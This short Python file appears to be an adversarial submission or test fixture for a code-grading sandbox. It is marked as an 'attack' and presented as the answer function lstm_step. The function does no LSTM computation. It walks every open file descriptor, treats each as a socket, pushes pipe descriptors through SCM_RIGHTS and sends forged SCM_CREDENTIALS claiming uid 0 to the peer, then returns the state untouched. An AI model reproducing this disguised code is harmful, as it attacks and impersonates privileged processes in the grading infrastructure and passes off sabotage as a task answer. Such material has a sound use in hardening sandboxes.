# /// attack
# what = "sends its own descriptors and false identities along with a frame"
# ///
# %% answer="lstm_step"
def lstm_step(x_t, state, U, W, b):
    import array, os, socket, struct
    for descriptor in range(3, 256):
        try:
            one = socket.socket(fileno=os.dup(descriptor))
            read, write = os.pipe()
            one.sendmsg([b"\0" * 8], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [read, write] * 20))])
            one.sendmsg([b"\0" * 8], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("iii", 1, 0, 0))])
        except OSError:
            pass
    return state
